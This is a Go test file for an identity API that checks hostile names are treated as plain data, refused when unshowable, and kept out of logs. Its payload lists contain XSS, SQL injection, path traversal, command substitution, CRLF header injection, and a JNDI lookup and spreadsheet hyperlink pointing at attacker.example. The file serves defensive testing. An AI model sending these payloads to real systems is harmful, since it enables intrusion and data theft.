package control

import (
	"encoding/json"
	"net/http"
	"net/url"
	"slices"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/airatelimit/airatelimit/test/await"
	"github.com/airatelimit/airatelimit/test/node"
	"github.com/airatelimit/airatelimit/test/stack"
)

// hostile are names that an app's users may give themselves, and that something behind may take for more than a name.
var hostile = []string{
	"<script>alert(1)</script>", `"><img src=x onerror=alert(1)>`, "javascript:alert(1)",
	"=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(A1)", "=HYPERLINK(\"http://attacker.example\")",
	"'; DROP TABLE projects; --", "\" OR \"\"=\"", "%' OR 1=1 --", "%", "_", "*", "?", "#", "a?b#c",
	"../../../../etc/passwd", "..", ".", "/", "//", "a/b", `a\b`, "%2e%2e%2f", "%00", "bulk", "gift", "user-123/gift", "{identity}", "{projectId}",
	"{{usage}}", "${jndi:ldap://attacker.example/a}", "$(id)", "`id`", "%s%n%x", "\\u0000", `{"a":1}`, "[]", "null", "true", "0", "-1",
	"a b", "a,b;c\"d'e", "a=b&c=d", "é", "e\u0301", "ß", "İ", "\u4e2d\u6587", "\u0639\u0631\u0628\u064a", "device", "Apple:1", "claims", "st_x", "pk_x",
	strings.Repeat("👩‍🚀", 512/len("👩‍🚀")), strings.Repeat("x", 512), strings.Repeat("\u00e9", 256),
}

// refusedNames are texts that no identity may be called.
var refusedNames = []string{"", " ", "a\x00b", "a\nb", "a\r\nX-Evil: 1", "a\tb", "\u202eevil", "a\u200bb", "\ufeffa", "\x1b[31m", "a\x7f", "\xff\xfe", strings.Repeat("x", 513), "device:1", "apple:", " claims:1"}

// Every call about an identity takes any name for a name: it is answered as it was given, as JSON, and means nothing.
func TestHostileNamesAreNames(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	for _, name := range hostile {
		bystander := w.read(knownIdentity)
		for _, r := range w.about(name) {
			a := w.Do(r)
			what := r.Method + " " + r.URL.String()
			if a.Status >= 400 && !slices.Contains([]int{404, 409}, a.Status) {
				t.Errorf("%s: status %d: %.300s", what, a.Status, a.Body)
			}
			if a.Body == "" {
				continue
			}
			if a.Status == http.StatusAccepted {
				w.awaitOperation(a)
			}
			if kind := a.Header.Get("Content-Type"); kind != "application/json" && kind != "application/problem+json" {
				t.Errorf("%s: Content-Type %q", what, kind)
			}
			if got, ok := a.JSON(t)["identity"].(string); ok && got != name {
				t.Errorf("%s: the answer is about %q, want %q", what, got, name)
			}
		}
		if got := w.read(knownIdentity); got != bystander {
			t.Errorf("calls about %q have changed another identity:\nbefore %s\nafter  %s", name, bystander, got)
		}
		w.wantFound(name)
	}
	for _, name := range hostile {
		if log := w.Log.String(); len(name) > 12 && strings.Contains(log, name) {
			t.Errorf("the log has %q", name)
		}
	}
}

// awaitOperation waits until the operation that an answer names has ended: it would change an identity later.
func (w *world) awaitOperation(a stack.Answer) {
	w.t.Helper()
	path := "/operations/" + a.JSON(w.t)["operationId"].(string)
	await.Within(w.t, node.Patience, "the operation ends", func() bool {
		state := w.control(http.MethodGet, path).JSON(w.t)["state"]
		return state != "preparing" && state != "running"
	})
}

// about are all calls about an identity, by its name in the path or in the body; those that end it come last.
func (w *world) about(name string) (all []*http.Request) {
	w.t.Helper()
	sorted := slices.Clone(w.ops)
	slices.SortStableFunc(sorted, func(a, b *operation) int {
		return strings.Compare(a.Method, b.Method) // DELETE, GET, PATCH, POST, PUT
	})
	slices.Reverse(sorted)
	for _, op := range sorted {
		if !op.ofProject() || op.Method == http.MethodDelete || !op.takes("secretKey") {
			continue
		}
		example := strings.ReplaceAll(w.example(op), `"`+knownIdentity+`"`, quote(name))
		if !strings.Contains(op.Path, "{identity}") && example == w.example(op) {
			continue
		}
		path := op.fill(func(parameter string) string {
			if parameter == "identity" {
				return escape(name)
			}
			if parameter == "projectId" {
				return w.mine.project
			}
			return escape(w.value(w.mine, op, parameter))
		})
		r := w.Request(op.Method, path+op.query(), "", example)
		r.Header.Set("Authorization", "Bearer "+w.mine.secret)
		all = append(all, r)
	}
	if len(all) < 8 {
		w.t.Fatalf("only %d calls are about identities", len(all))
	}
	return all
}

// quote writes a name as JSON. What is no UTF-8 goes as it is.
func quote(s string) string {
	if !utf8.ValidString(s) {
		return `"` + s + `"`
	}
	text, _ := json.Marshal(s)
	return string(text)
}

// read is what the server says of an identity.
func (w *world) read(name string) string {
	w.t.Helper()
	a := w.control(http.MethodGet, "/identities/"+escape(name))
	stack.WantStatus(w.t, a, http.StatusOK)
	return a.Body
}

// wantFound checks that the list finds the name and only it, that the data plane knows it, and that it can be deleted.
func (w *world) wantFound(name string) {
	w.t.Helper()
	list := w.control(http.MethodGet, "/identities?match=exact&q="+url.QueryEscape(name))
	stack.WantStatus(w.t, list, http.StatusOK)
	items := list.JSON(w.t)["items"].([]any)
	if len(items) != 1 || items[0].(map[string]any)["identity"] != name {
		w.t.Errorf("the list finds %v for %q, want it alone", items, name)
	}
	stack.WantStatus(w.t, w.control(http.MethodDelete, "/identities/"+escape(name)), http.StatusNoContent)
	stack.WantStatus(w.t, w.control(http.MethodGet, "/identities/"+escape(name)), http.StatusNotFound)
}

// No call creates an identity with a name that cannot be shown.
func TestNamesThatCannotBeShownAreRefused(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	before := w.control(http.MethodGet, "/identities").Body
	for _, name := range refusedNames {
		for _, r := range w.about(name) {
			a := w.Do(r)
			if a.Status < 400 || a.Status >= 500 {
				t.Errorf("%s %s: status %d for %q, want it refused: %.300s", r.Method, r.URL, a.Status, name, a.Body)
			}
		}
	}
	if after := w.control(http.MethodGet, "/identities").Body; after != before {
		t.Errorf("identities have been created: before %s, after %s", before, after)
	}
}

// control calls the control plane about the project of the world, with its secret key.
func (w *world) control(method, path string) stack.Answer {
	w.t.Helper()
	r := w.Request(method, "/api/projects/"+w.mine.project+path, "", "")
	caller{authorization: "Bearer " + w.mine.secret}.sign(r)
	return w.Do(r)
}
